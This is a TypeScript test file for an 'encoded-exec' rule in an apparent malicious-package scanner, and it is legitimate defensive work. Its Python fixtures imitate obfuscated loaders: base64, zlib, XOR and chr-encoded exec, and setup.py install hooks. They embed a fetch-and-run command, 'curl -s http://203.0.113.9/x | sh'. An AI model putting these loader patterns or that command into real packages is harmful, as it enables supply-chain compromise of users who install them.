import { describe, it, expect } from 'vitest';
import { deflateSync } from 'node:zlib';
import { hits, maxSev } from './helpers.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const PAYLOAD = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";

describe('encoded-exec', () => {
  it('flags exec(base64.b64decode(literal)) in setup.py as critical', () => {
    const src = `import base64\nexec(base64.b64decode('${b64(PAYLOAD)}'))\n`;
    expect(maxSev(hits('encoded-exec', { 'setup.py': src }))).toBe('critical');
  });
  it('follows renamed imports and zlib layers', () => {
    const z = deflateSync(Buffer.from(PAYLOAD)).toString('base64');
    const src = `import base64 as q, zlib as w\n_ = eval\n_(compile(w.decompress(q.b64decode("${z}")), '<x>', 'exec'))\n`;
    expect(maxSev(hits('encoded-exec', { 'pkg/__init__.py': src }))).toBe('critical');
  });
  it('flags exec of a Fernet-decrypted blob (decrypt inside exec)', () => {
    const src = `from fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAAABmA1qGST25NId_y2UxL3bYhi0FsbUwS4NewkB6jjRyhyW1hbmLf'))\n`;
    expect(hits('encoded-exec', { 'setup.py': src }).length).toBe(1);
  });
  it('flags a reversed string exec', () => {
    const rev = [...PAYLOAD].reverse().join('').replace(/\n/g, '\\n').replace(/'/g, "\\'");
    const src = `exec('${rev}'[::-1])\n`;
    expect(maxSev(hits('encoded-exec', { 'setup.py': src }))).toBe('critical');
  });
  it('does not flag pickle.loads of decoded request data (bottle signed cookies)', () => {
    const src = `import base64, pickle\ndef cookie_decode(data, key):\n    msg = base64.b64decode(data)\n    return pickle.loads(base64.b64decode(msg))\n`;
    expect(hits('encoded-exec', { 'bottle.py': src })).toEqual([]);
  });
  it('does not flag decoding without exec, nor exec in a docstring or comment', () => {
    const src = `"""Example: exec(base64.b64decode(x))"""\nimport base64\n# exec(base64.b64decode('${b64(PAYLOAD)}'))\nICON = base64.b64decode('${b64('just some png-ish bytes here, not code at all')}')\n`;
    expect(hits('encoded-exec', { 'pkg/__init__.py': src })).toEqual([]);
  });

  const XOR_SETUP = (key: string, body: string) => `from setuptools import setup\nfrom setuptools.command.install import install\n\nclass InstallCommand(install):\n    def run(self):\n        try:\n            data = "Q[F\\\\BA\\x13YC=X\\\\C^BA"\n            key = "${key}"\n            out = ""\n            for i in range(len(data)):\n                out += chr(ord(data[i]) ^ ord(key[i % len(key)]))\n${body}        except:\n            pass\n        install.run(self)\n\nsetup(name="x", cmdclass={"install": InstallCommand})\n`;
  it('flags a string XOR-decoded and executed in a setuptools install command as critical', () => {
    const found = hits('encoded-exec', { 'setup.py': XOR_SETUP('8412', "            eval(compile(out, '<string>', 'exec'))\n") });
    expect(maxSev(found)).toBe('critical');
    expect(found[0].message).toMatch(/XOR/);
  });
  it('flags XOR-then-exec in an ordinary module as high (held, not blocked on its own)', () => {
    const src = `def go(blob, k):\n    s = ''.join(chr(b ^ k) for b in blob)\n    exec(s)\n`;
    expect(maxSev(hits('encoded-exec', { 'pkg/util.py': src }))).toBe('high');
  });
  it('does not flag XOR without exec, nor XOR and exec in different functions, nor exec of a version file', () => {
    const hmacish = `def xor_pad(key):\n    return ''.join(chr(ord(c) ^ 0x5C) for c in key)\n\ndef load_version():\n    ns = {}\n    exec(open('pkg/_version.py').read(), ns)\n    return ns['__version__']\n`;
    expect(hits('encoded-exec', { 'pkg/__init__.py': hmacish })).toEqual([]);
    expect(hits('encoded-exec', { 'setup.py': XOR_SETUP('8412', '') })).toEqual([]);
  });
});

describe('encoded-exec: XOR-built code run through an alias of exec', () => {
  it('reads a module that only says `b = exec` and flags the XOR loop it runs (high)', () => {
    const colored = `import os\nb = exec\nclass colored:\n    pass\ndef check():\n    w = "[[EYKC\\x19_D\\x19"\n    k = "2656979075"\n    o = ""\n    for i in range(len(w)):\n        o += chr(ord(w[i]) ^ ord(k[i % len(k)]))\n    b(o)\n`;
    const f = hits('encoded-exec', { 'pkg/__init__.py': 'from .colored import *\n', 'pkg/colored.py': colored });
    expect(maxSev(f)).toBe('high');
    expect(f[0].path).toMatch(/colored\.py$/);
  });
});

describe('encoded-exec: code spelled out as character codes', () => {
  it('blocks setup.py exec-ing a chr join of computed numbers (critical), holds it in a module (high)', () => {
    const src = `exec("".join(map(chr, [int(float(str('....33649378278.112.116..58').split('..')[1].split('.')[1])), int('114')])))\n`;
    expect(maxSev(hits('encoded-exec', { 'setup.py': `${src}from setuptools import setup\nsetup(name="pkg")\n` }))).toBe('critical');
    expect(maxSev(hits('encoded-exec', { 'pkg/util.py': `import os\ndef go():\n    ${src}` }))).toBe('high');
  });
  it('does not flag a chr join that is only printed', () => {
    expect(hits('encoded-exec', { 'setup.py': `print("".join(map(chr, [104, 105])))\nfrom setuptools import setup\nsetup(name="pkg")\n` })).toEqual([]);
  });
});

describe('encoded-exec: a shell command next to an XOR decoder', () => {
  it('holds a function that XOR-decodes its command and runs it through a shell (high)', () => {
    const src = `import os, subprocess\ndef load(path, key):\n    command = b'\\xae\\xa9\\xb2\\xb8'\n    name = bytes([b ^ key for b in command]).decode()\n    cmd = f'{name} "{path}", CalculateSum 1'\n    subprocess.run(cmd, shell=True)\n`;
    expect(maxSev(hits('encoded-exec', { 'pkg/loader.py': src }))).toBe('high');
  });
  it('does not flag XOR next to a fixed shell command', () => {
    const src = `import subprocess\ndef mask(data, key):\n    subprocess.run("sync", shell=True)\n    return bytes([b ^ key for b in data])\n`;
    expect(hits('encoded-exec', { 'pkg/mask.py': src })).toEqual([]);
  });
});

describe('encoded-exec: decoding helpers written in the file', () => {
  // The obfuscators' own decoder: `_ = lambda __: zlib.decompress(b64decode(__[::-1]))`, then
  // `exec((_)(b'...'))`, layer after layer. The helper is evaluated on the literal like the
  // decoders it wraps, so the payload under it is read.
  const layer = (code: string) => [...deflateSync(Buffer.from(code)).toString('base64')].reverse().join('');
  const wrap = (code: string) => `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));\nexec((_)(b'${layer(code)}'))\n`;
  it('reads through a lambda decoder, two layers deep, and flags the exec (high in an ordinary module)', () => {
    // Long enough that the literal does not fit in a call's 200-character source text.
    const code = `${PAYLOAD}TABLE = ${JSON.stringify(Array.from({ length: 120 }, (_, i) => (i * 7919) % 1009))}\n`;
    const f = hits('encoded-exec', { 'pkg/tool.py': wrap(wrap(code)) });
    expect(maxSev(f)).toBe('high');
    expect(f[0].message).toMatch(/encoded payload/);
  });
  it('reads through a def decoder with local steps; its process call is a decoded command line', () => {
    const setup = `import base64, os\nfrom setuptools import setup\nfrom setuptools.command.install import install\ndef b64d(base64_code):\n    base64_bytes = base64_code.encode('ascii')\n    code_bytes = base64.b64decode(base64_bytes)\n    code = code_bytes.decode('ascii')\n    return code\nclass AfterInstall(install):\n    def run(self):\n        install.run(self)\n        os.system(b64d("${b64('curl -s http://203.0.113.9/x | sh')}"))\nsetup(name='x', cmdclass={'install': AfterInstall})\n`;
    const f = hits('encoded-exec', { 'setup.py': setup });
    expect(maxSev(f)).toBe('high');
    expect(f[0].message).toMatch(/decoded at run time/);
  });
  it('a helper that does not decode is not a decoder, and a decoder applied to data is not exec', () => {
    const src = `import base64\nlabel = lambda s: s.upper() + '!'\nunpack = lambda s: base64.b64decode(s)\nICON = unpack('${b64('just some png-ish bytes here, not code at all')}')\nprint(label('hello world and more words here'))\n`;
    expect(hits('encoded-exec', { 'pkg/__init__.py': src })).toEqual([]);
  });
});

describe('encoded-exec: exec of a computed value beside a decoder', () => {
  // pyobfuscate.com's loader: the key and cipher come from code we cannot evaluate; the pairing
  // of decoders and eval on a module's top level is what is left to see.
  const loader = `import base64, codecs, zlib\n____ = eval\n____(base64.b64decode(codecs.decode(zlib.decompress(base64.b64decode(b"eJw9kN1y")).decode(), "".join(chr(int(i/8)) for i in [912, 888, 928, 392, 408])).encode()))\n`;
  it('on the top level of a module of the package (runs when it is imported): medium', () => {
    expect(maxSev(hits('encoded-exec', { 'pkg/__init__.py': '', 'pkg/tool_file.py': loader }))).toBe('medium');
  });
  it('in a function nothing calls on import: low', () => {
    const inFn = `import base64\ndef run(blob):\n    data = base64.b64decode(blob)\n    exec(data.decode())\n`;
    expect(maxSev(hits('encoded-exec', { 'pkg/__init__.py': '', 'pkg/tool_file.py': inFn }))).toBe('low');
  });
});

describe('encoded-exec: a method that decodes', () => {
  it('flags exec of what a decoding method returns (colorama hijack: exec(self.decode(code)))', () => {
    const src = `class Proxy:\n    def __init__(self, module):\n        self._code = 'clcWJhkQbGkSWCZtACEqSQhdC2RbHzwyQRx4'\n        self._mod = __import__('importlib').import_module(module)\n    def __getattr__(self, name):\n        attr = getattr(self._mod, name)\n        def wrapped(*a, **k):\n            exec(self.decode(self._code))\n            return attr(*a, **k)\n        return wrapped\n    def decode(self, encoded):\n        return bytes(c ^ 7 for c in __import__('base64').b64decode(encoded)).decode()\n__import__('sys').modules['colorama'] = Proxy('colorama')\n`;
    expect(maxSev(hits('encoded-exec', { 'pkg/__init__.py': src }))).not.toBe('none');
  });
});

describe('encoded-exec: bytes decoded by XOR and executed', () => {
  it('holds exec of a hex blob XOR-decoded into a bytearray in one function (high)', () => {
    const src = `BLOB = 'b5d23ce28989b6df3ea3c0c1b6d23fad9899a0c839f79c83'\ndef startingbound(key):\n    enc = bytearray.fromhex(BLOB)\n    k = bytearray.fromhex(key)\n    out = bytearray([enc[i] ^ k[i % 6] for i in range(len(enc))])\n    exec(out.decode('ascii'))\n`;
    expect(maxSev(hits('encoded-exec', { 'pkg/edt/bounding.py': src }))).toBe('high');
  });
  it('does not flag websocket-style masking that is never executed', () => {
    const src = `def mask(data, key):\n    return bytes(b ^ key[i % 4] for i, b in enumerate(data))\n`;
    expect(hits('encoded-exec', { 'pkg/ws.py': src })).toEqual([]);
  });
});

describe('encoded-exec: XOR in a helper of the file', () => {
  it('holds exec of what an XOR-decrypting helper returned (high)', () => {
    const src = `import base64\ndef apply(content):\n    data = base64.b64decode(content).decode()\n    plain = atomic_scheme(data, 'asjkdhalskjdhlaj')\n    exec(plain, {})\ndef atomic_scheme(data, key):\n    out = ''\n    for i in range(len(data)):\n        out += chr(ord(data[i]) ^ ord(key[i % len(key)]))\n    return out\n`;
    expect(maxSev(hits('encoded-exec', { 'pkg/driver.py': src }))).toBe('high');
  });
});
